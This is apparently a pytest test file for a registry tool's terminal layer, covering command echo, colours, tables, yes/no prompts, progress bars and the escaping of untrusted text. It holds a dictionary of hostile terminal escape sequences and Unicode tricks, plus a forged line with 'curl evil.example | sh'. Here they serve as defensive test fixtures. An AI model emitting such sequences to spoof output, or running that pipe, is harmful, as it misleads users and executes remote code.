"""The terminal: what people see, what programs see, and who is asked."""

from __future__ import annotations

import io
import json
import re
import sys
import threading
import unicodedata
from pathlib import Path
from typing import TYPE_CHECKING
from unittest import mock

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trusted_registry import terminal as terminals
from trusted_registry.console import visible
from trusted_registry.errors import RegistryError
from trusted_registry.report import Report, Table
from trusted_registry.terminal import Terminal, explain

if TYPE_CHECKING:
    from collections.abc import Callable


class _Screen(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def _shown(act: Callable[[Terminal], object], *, as_json: bool = False, echo: bool = True) -> str:
    out = io.StringIO()
    act(Terminal(out=out, as_json=as_json, echo=echo))
    return out.getvalue()


@pytest.mark.parametrize(
    ("dry", "echo", "as_json", "shown"),
    [
        (False, False, False, ""),
        (True, False, False, "$ ls\n"),
        (False, True, False, "$ ls\n"),
        (True, True, True, ""),
    ],
)
def test_a_command_is_shown_in_a_dry_run_and_by_echo_alone(*, dry: bool, echo: bool, as_json: bool, shown: str) -> None:
    out = io.StringIO()
    Terminal(out=out, dry=dry, echo=echo, as_json=as_json).command(["ls"])
    assert out.getvalue() == shown


def test_a_command_for_the_reader_is_shown_in_any_case() -> None:
    assert _shown(lambda t: t.advise(["scp", "a b", "HOST:"]), echo=False) == "$ scp 'a b' HOST:\n"


def test_a_command_is_shown_as_it_can_be_pasted() -> None:
    assert _shown(lambda t: t.command(["echo", "a b", "$x"])) == "$ echo 'a b' '$x'\n"


def test_a_path_below_this_folder_is_shown_relative_to_it() -> None:
    assert _shown(lambda t: t.command(["cat", str(Path.cwd() / "certs" / "ca.crt")])) == "$ cat certs/ca.crt\n"


def test_a_path_elsewhere_is_shown_in_full() -> None:
    assert _shown(lambda t: t.command(["cat", "/elsewhere/ca.crt"])) == "$ cat /elsewhere/ca.crt\n"


def test_what_goes_to_a_file_has_no_colours() -> None:
    assert "\033" not in _shown(lambda t: t.command(["ls"]))


def test_what_goes_to_a_screen_has_colours_unless_a_person_wants_none(monkeypatch: pytest.MonkeyPatch) -> None:
    coloured, plain = _Screen(), _Screen()
    Terminal(out=coloured, echo=True).command(["ls"])
    monkeypatch.setenv("NO_COLOR", "1")
    Terminal(out=plain, echo=True).command(["ls"])
    assert ("\033[" in coloured.getvalue(), plain.getvalue()) == (True, "$ ls\n")


def _on_screen(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Return the colours of an error, of a warning and of a proof, as a person sees them."""
    out, err = _Screen(), _Screen()
    monkeypatch.setattr(sys, "stderr", err)
    Terminal().warn("look here")
    Terminal(out=out).say("proof: pushed and pulled back")
    error = explain(RegistryError("It broke.", cure="Mend it."))
    return ["".join(re.findall(r"^\x1b\[([0-9;]+)m", it)) for it in (error, err.getvalue(), out.getvalue())]


def test_an_error_a_warning_and_a_proof_have_a_colour_each_unless_a_person_wants_none(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    colours = _on_screen(monkeypatch)
    assert len({*colours, ""}) == 4
    monkeypatch.setenv("NO_COLOR", "1")
    assert _on_screen(monkeypatch) == ["", "", ""]


def test_a_line_that_is_no_proof_has_no_colour_on_a_screen() -> None:
    out = _Screen()
    Terminal(out=out).say("registry: running")
    Terminal(out=out).say("proofread: never")
    assert out.getvalue() == "registry: running\nproofread: never\n"


ROWS = Report(table=Table("Pulls", ["Client", "Why"], [["docker 26.1", "x509:\nMend it."], ["podman", ""]]))


def test_a_table_is_plain_lines_where_nobody_watches_and_a_box_on_a_screen() -> None:
    screen = _Screen()
    Terminal(out=screen).report(ROWS)
    assert _shown(lambda t: t.report(ROWS)).splitlines() == [
        "Pulls",
        "Client       Why",
        "docker 26.1  x509: Mend it.",
        "podman",
    ]
    assert "│" in screen.getvalue()


def test_a_row_of_a_plain_table_is_one_line_however_long() -> None:
    long = Report(table=Table("Title", ["A", "B"], [["x" * 200, "y" * 200]]))
    assert _shown(lambda t: t.report(long)).splitlines()[-1] == f"{'x' * 200}  {'y' * 200}"


def test_what_was_not_due_is_said_to_a_screen_alone() -> None:
    screen = _Screen()
    Terminal(out=screen).say_idle("not due")
    assert (screen.getvalue(), _shown(lambda t: t.say_idle("not due"))) == ("not due\n", "")


@pytest.mark.parametrize("act", [lambda t: t.say("made"), lambda t: t.command(["ls"])])
def test_one_for_json_leaves_standard_output_to_programs(act: Callable[[Terminal], None]) -> None:
    assert (_shown(act, as_json=True), _shown(act) != "") == ("", True)


def test_a_warning_goes_to_standard_error_even_from_one_for_json(capsys: pytest.CaptureFixture[str]) -> None:
    Terminal(as_json=True).warn("look here")
    said = capsys.readouterr()
    assert (said.out, said.err) == ("", "note: look here\n")


@pytest.mark.parametrize(("yes", "dry"), [(True, False), (False, True)])
def test_a_yes_given_beforehand_and_a_dry_run_ask_nobody(*, yes: bool, dry: bool) -> None:
    assert Terminal(yes=yes, dry=dry).ask("Remove everything?")


def test_without_anybody_to_answer_nothing_is_assumed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    with pytest.raises(RegistryError, match=r"Nobody is here to answer: Remove everything\?") as caught:
        Terminal().ask("Remove everything?")
    assert caught.value.cure == "Add --yes to the command."


@pytest.mark.parametrize(
    ("typed", "answer"), [("y", True), ("yes", True), (" YES ", True), ("", False), ("n", False), ("yep", False)]
)
def test_only_a_yes_is_a_yes(typed: str, monkeypatch: pytest.MonkeyPatch, *, answer: bool) -> None:
    monkeypatch.setattr(sys, "stdin", _Screen())
    monkeypatch.setattr("builtins.input", lambda _prompt: typed)
    assert Terminal().ask("Remove everything?") is answer


def test_an_end_of_input_is_a_no(monkeypatch: pytest.MonkeyPatch) -> None:
    def end(_prompt: str) -> str:
        raise EOFError

    monkeypatch.setattr(sys, "stdin", _Screen())
    monkeypatch.setattr("builtins.input", end)
    assert not Terminal().ask("Remove everything?")


def test_a_table_keeps_brackets_that_look_like_markup() -> None:
    shown = _shown(lambda t: t.report(_table("Registry", "How", "trust for [fd00::12]")))
    assert "trust for [fd00::12]" in shown


def _table(title: str, column: str, cell: str) -> Report:
    return Report(table=Table(title, [column], [[cell]]))


BAD = RegistryError("Bad.", cure="Mend.")
FAILED = Report({"state": "bad\n"}, Table("Title", ["Column"], [["cell"]]), ["below"], BAD)


def test_a_report_is_a_table_with_what_stands_below_and_then_its_failure() -> None:
    out = io.StringIO()
    with pytest.raises(RegistryError, match=r"Bad\."):
        Terminal(out=out).report(FAILED)
    assert (out.getvalue().splitlines()[0].rstrip(), out.getvalue().splitlines()[-1]) == ("Title", "below")


def test_a_report_for_programs_is_json_alone_and_fails_all_the_same() -> None:
    out = io.StringIO()
    with pytest.raises(RegistryError, match=r"Bad\."):
        Terminal(out=out, as_json=True).report(FAILED)
    assert out.getvalue() == '{\n  "state": "bad\\n"\n}\n'


def test_a_report_where_all_is_well_raises_nothing() -> None:
    assert (_shown(lambda t: t.report(Report([], lines=["well"]))), _shown(lambda t: t.report(Report([])))) == (
        "well\n",
        "",
    )


class _Watched(io.StringIO):
    """A stream that lets somebody wait for the first thing written, and may have lost its reader."""

    def __init__(self, *, gone: bool = False) -> None:
        super().__init__()
        self.written = threading.Event()
        self._gone = gone

    def write(self, text: str) -> int:
        try:
            if self._gone:
                raise BrokenPipeError(32, "Broken pipe")
            return super().write(text)
        finally:
            self.written.set()


def test_work_that_takes_long_is_a_line_where_no_bar_can_move(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(terminals, "_SAY_AFTER", 0.01)
    out = _Watched()
    with Terminal(out=out).progress("Pulling") as progress:
        progress.update("layer", 1, 2)
        assert out.written.wait(60)
    assert out.getvalue() == "Pulling …\n"


@pytest.mark.parametrize(("as_json", "dry", "after"), [(False, False, 600), (True, False, 0), (False, True, 0)])
def test_work_that_is_quick_or_that_nobody_watches_is_no_line(
    after: float, monkeypatch: pytest.MonkeyPatch, *, as_json: bool, dry: bool
) -> None:
    monkeypatch.setattr(terminals, "_SAY_AFTER", after)
    out = io.StringIO()
    before = set(threading.enumerate())
    with Terminal(out=out, as_json=as_json, dry=dry).progress("Pulling") as progress:
        progress.update("layer", 1, 2)
    for timer in set(threading.enumerate()) - before:
        timer.join(60)
    assert out.getvalue() == ""


def test_a_reader_that_is_gone_is_no_traceback_of_the_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(terminals, "_SAY_AFTER", 0.0)
    failed: list[object] = []
    monkeypatch.setattr(threading, "excepthook", failed.append)
    before, out = set(threading.enumerate()), _Watched(gone=True)
    with Terminal(out=out).progress("Pulling"):
        clocks = set(threading.enumerate()) - before
        assert out.written.wait(60)
        for clock in clocks:
            clock.join(60)
    assert failed == []


@pytest.mark.parametrize(("unit", "column"), [("bytes", "DownloadColumn"), ("clients", "MofNCompleteColumn")])
def test_a_bar_counts_what_it_is_told_to(unit: str, column: str) -> None:
    with mock.patch("rich.progress.Progress") as made, Terminal(out=_Screen()).progress("Pulling", unit) as bar:
        bar.update("one", 1, 2)
        bar._appear()  # type: ignore[attr-defined]
    assert column in [type(it).__name__ for it in made.call_args.args]


def test_an_error_is_two_lines_of_which_the_second_is_the_cure() -> None:
    assert explain(RegistryError("It broke.", cure="Mend it.")) == "error: It broke.\n   do: Mend it."


# What others wrote

HOSTILE = {
    "a title": "\x1b]0;owned\x07",
    "the cursor up, and a line over ours": "\x1b[2A\x1b[2Kproof: accepted",
    "the same by a control of the second set": "\x9b2A",
    "a link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a line over ours by a carriage return": "refused\rproof: accepted",
    "letters that go": "evil\b\b\b\b",
    "writing that turns round": "\u202egpj.exe",
    "the same as an isolate": "\u2066evil\u2069",
    "letters without width": "reg\u200bistry\ufeff",
    "line ends of Unicode": "refused\u2028proof: accepted\u2029",
    "half of a pair": "\udc9b2A",
    "a rubbed out letter": "\x7f",
    "a null": "\x00",
}
SPELLED = re.compile(r"\\(x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8}|r)")


def _ways(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[str], str]]:
    """Return each way by which a word reaches a person."""
    prompts: list[str] = []

    def answered(prompt: str) -> str:
        prompts.append(prompt)
        return "n"

    monkeypatch.setattr(sys, "stdin", _Screen())
    monkeypatch.setattr("builtins.input", answered)
    monkeypatch.setattr("getpass.getpass", answered)
    stderr = io.StringIO()
    monkeypatch.setattr(sys, "stderr", stderr)

    def warned(text: str) -> str:
        Terminal().warn(text)
        return stderr.getvalue()

    def asked(text: str) -> str:
        Terminal().ask(text)
        return prompts[-1]

    def unseen(text: str) -> str:
        Terminal().secret(text)
        return "".join(prompts)

    return {
        "say": lambda text: _shown(lambda t: t.say(text)),
        "command": lambda text: _shown(lambda t: t.command(["echo", text])),
        "warn": warned,
        "ask": asked,
        "secret": unseen,
        "table": lambda text: _shown(lambda t: t.report(_table("Title", "Column", text))),
        "column": lambda text: _shown(lambda t: t.report(_table("Title", text, "cell"))),
        "title": lambda text: _shown(lambda t: t.report(_table(text, "Column", "cell"))),
        "error": lambda text: explain(RegistryError(text, cure="Mend it.")),
        "cure": lambda text: explain(RegistryError("It broke.", cure=text)),
        "progress": _bar,
    }


def _bar(text: str) -> str:
    screen = _Screen()
    with mock.patch("rich.progress.Progress") as made, Terminal(out=screen).progress(text) as bar:
        bar._appear()  # type: ignore[attr-defined]
    return "".join(str(call.args[0]) for call in made.return_value.add_task.call_args_list)


WAYS = ["say", "command", "warn", "ask", "secret", "table", "column", "title", "error", "cure", "progress"]


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("way", WAYS)
def test_what_a_terminal_would_obey_is_spelled_out(way: str, hostile: str, monkeypatch: pytest.MonkeyPatch) -> None:
    shown = _ways(monkeypatch)[way](hostile)
    assert [letter for letter in shown if not letter.isprintable() and letter != "\n"] == []
    assert SPELLED.search(shown.replace("\n", ""))


@given(text=st.text(st.characters()))
def test_no_text_at_all_reaches_the_terminal_unseen(text: str) -> None:
    shown = visible(text)
    left = [it for it in shown if not it.isprintable() and it not in "\n\t" and unicodedata.category(it) != "Zs"]
    assert left == []


@given(text=st.text(st.characters(categories=["L", "M", "N", "P", "S", "Zs"], include_characters="\n\t")))
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert visible(text) == text


def test_a_foreign_line_end_begins_no_line_that_looks_like_ours(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "refused\n   do: curl evil.example | sh\nproof: accepted\nerror: none"
    Terminal().warn(forged)
    said = [*explain(RegistryError(forged, cure="Mend it.")).splitlines(), *capsys.readouterr().err.splitlines()]
    ours = [line for line in said if not line.startswith("         ")]
    assert ours == ["error: refused", "   do: Mend it.", "note: refused"]


def test_tabs_and_line_ends_of_a_log_stay_and_those_of_windows_become_ours() -> None:
    assert _shown(lambda t: t.say("a\tb\r\nc\n")) == "a\tb\nc\n\n"


def test_json_for_programs_holds_no_control() -> None:
    assert json.dumps("".join(HOSTILE.values())).isprintable()


@pytest.mark.parametrize(("known", "times"), [(False, 2), (True, 1)])
def test_a_new_password_is_asked_for_twice_and_a_known_passphrase_once(
    times: int, *, known: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    prompts: list[str] = []

    def answered(prompt: str) -> str:
        prompts.append(prompt)
        return "open"

    monkeypatch.setattr(sys, "stdin", _Screen())
    monkeypatch.setattr("getpass.getpass", answered)
    assert Terminal().secret("Passphrase", known=known) == "open"
    assert len(prompts) == times
